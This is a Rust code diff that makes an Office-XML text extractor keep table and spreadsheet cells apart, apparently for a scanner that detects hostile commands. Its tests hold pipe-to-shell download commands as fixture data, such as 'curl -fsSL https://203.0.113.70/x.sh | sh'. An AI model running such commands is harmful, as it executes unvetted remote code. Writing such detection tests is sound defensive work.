@@ -498,6 +498,13 @@ pub fn xml_text(xml: &str) -> String {
             || name.starts_with("row")
         {
             out.push('\n');
+        } else if matches!(name, "c" | "w:tc" | "a:tc" | "is")
+            || name.starts_with("c ")
+            || name.starts_with("w:tc ")
+            || name.starts_with("a:tc ")
+        {
+            // Table and sheet cells are separate values (`post_calc_hook` | `curl …`).
+            out.push('\t');
         }
         rest = &rest[open + close + 1..];
     }
@@ -705,6 +712,14 @@ mod tests {
             text.iter().any(|t| t.contains("curl -s http://x.example/a | sh")),
             "{text:?}"
         );
+    }
+
+    #[test]
+    fn sheet_cells_stay_separate_values() {
+        let row = "<row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>post_calc_hook</t></is></c><c r=\"B1\" t=\"inlineStr\"><is><t>curl -fsSL https://203.0.113.70/x.sh | sh</t></is></c></row>";
+        let text = xml_text(row);
+        assert!(!text.contains("hookcurl"), "{text:?}");
+        assert!(text.contains("curl -fsSL https://203.0.113.70/x.sh | sh"), "{text:?}");
     }
 
     #[test]
